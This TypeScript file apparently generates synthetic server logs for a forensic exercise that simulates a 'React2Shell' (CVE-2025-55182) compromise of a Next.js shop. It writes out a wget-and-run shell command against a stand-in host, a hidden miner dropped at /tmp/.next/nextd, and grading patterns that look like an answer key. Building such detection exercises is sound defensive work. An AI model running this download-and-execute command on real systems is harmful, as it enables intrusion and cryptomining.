/**
 * CVE-2025-55182, "React2Shell": a POST whose body no log keeps, and Next.js starts a shell. The web server's log shows
 * little; what the application says when a command fails, and Sysmon for Linux, show the rest.
 */
import { day, syslogTime } from './clock.ts';
import { authNoise, combined, type Line, moments, visits, written } from './noise.ts';
import { chance } from './random.ts';
import { attacker, minerArguments, night, type Story, weekBegins, weekEnds } from './story.ts';
import { linuxStart } from './sysmon-linux.ts';
import type { SysmonStart } from './sysmon-start.ts';
import { triedAndFailed } from './tried.ts';

const host = 'web01';
const robot = 'Mozilla/5.0 (compatible; Assetnote/1.0.0)';
const post = (ms: number, client: string, status: number, agent: string): Line =>
  combined({ ms, client, method: 'POST', target: '/', status, bytes: 174, agent });

/** Others asked on the days before, and got an error for it. */
const attack = [
  post(night - 3 * day, '192.0.2.181', 500, robot),
  post(night - day - 500_000, '192.0.2.182', 500, 'python-requests/2.32.3'),
  post(night, attacker, 500, 'Go-http-client/1.1'),
];

const fetching = '(cd /tmp; wget -qO n.sh http://203.0.113.9/n.sh; sh n.sh)';
const say = (ms: number, text: string): Line => ({ ms, text: `${syslogTime(ms)} ${host} next-server[1211]: ${text}` });
function applicationNoise(): Line[] {
  const luck = chance(52);
  return [...moments(weekBegins, weekEnds, 20, luck)].map((ms) =>
    say(
      ms,
      luck.pick([
        'GET /products 200 in 41ms',
        'Cache revalidated: /products',
        ` ⨯ Failed to find Server Action "${'a7'.repeat(20)}". This request might be from an older or newer deployment.`,
      ]),
    ),
  );
}
const complaints = [
  say(night - 3 * day, ' ⨯ Error: Connection closed.'),
  say(night + 60_000, ` ⨯ Error: Command failed: ${fetching}`),
];

const next = { pid: 1_211, program: '/usr/bin/node', command: 'next-server (v15.0.3)' };
const nothing = { user: 'www-data', folder: '/srv/shop' };
const start = (after: number, pid: number, what: Pick<SysmonStart, 'program' | 'command' | 'parent'>): Line =>
  linuxStart(host, { ms: night + after, pid, ...nothing, ...what });
const shell = { pid: 61_001, program: '/usr/bin/dash', command: `/bin/sh -c ${fetching}` };
const script = { pid: 61_003, program: '/usr/bin/dash', command: 'sh n.sh' };
const deeds = [
  start(300, shell.pid, { ...shell, parent: next }),
  start(330, 61_002, { program: '/usr/bin/wget', command: 'wget -qO n.sh http://203.0.113.9/n.sh', parent: shell }),
  start(1_900, script.pid, { ...script, parent: shell }),
  start(9_700, 61_020, {
    program: '/tmp/.next/nextd',
    command: `/tmp/.next/nextd ${minerArguments.join(' ')}`,
    parent: script,
  }),
];

function sysmonNoise(): Line[] {
  const luck = chance(53);
  const cron = { pid: 801, program: '/usr/sbin/cron', command: '/usr/sbin/cron -f' };
  let pid = 10_000;
  return [...moments(weekBegins, weekEnds, 5, luck)].map((ms) => {
    pid += 3;
    const [program, command] = luck.pick<readonly [string, string]>([
      ['/usr/bin/run-parts', 'run-parts --report /etc/cron.hourly'],
      ['/usr/bin/curl', 'curl -fsS https://status.example.com/ping'],
      ['/usr/bin/find', 'find /var/lib/php/sessions -mmin +24'],
    ]);
    return linuxStart(host, { ms, pid, program, command, parent: cron, user: 'root', folder: '/' });
  });
}

const access = 'var/log/nginx/access.log';
const application = 'var/log/shop.log';
const syslog = 'var/log/syslog';

export const react: Story = {
  name: 'React2Shell',
  files: {
    [access]: written(
      [...visits(weekBegins, weekEnds, 80, 51), ...triedAndFailed(weekBegins, weekEnds, 0.3, 54)].map(combined),
      attack,
    ),
    [application]: written(applicationNoise(), complaints),
    [syslog]: written(sysmonNoise(), deeds),
    'var/log/auth.log': written(authNoise(weekBegins, weekEnds, host, 55)),
  },
  reading: 'exploit',
  begins: night,
  tells: [/React2Shell/, /CVE-2025-55182/, /n\.sh/],
  requests: [access, application],
  deeds: [syslog],
};
